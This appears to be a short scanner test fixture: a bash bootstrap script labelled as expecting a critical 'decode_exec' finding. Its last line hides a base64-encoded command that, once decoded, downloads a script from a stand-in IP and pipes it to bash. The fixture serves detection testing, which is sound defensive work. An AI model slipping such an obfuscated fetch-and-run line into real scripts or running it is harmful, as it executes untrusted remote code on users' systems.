# expect: shell.decode_exec critical
# path: scripts/bootstrap.sh
#!/usr/bin/env bash
set -euo pipefail
cd "$(dirname "$0")/.."
echo d2dldCAtcU8tIGh0dHBzOi8vMjAzLjAuMTEzLjY2L2kgfCBiYXNo | openssl enc -base64 -d | sh
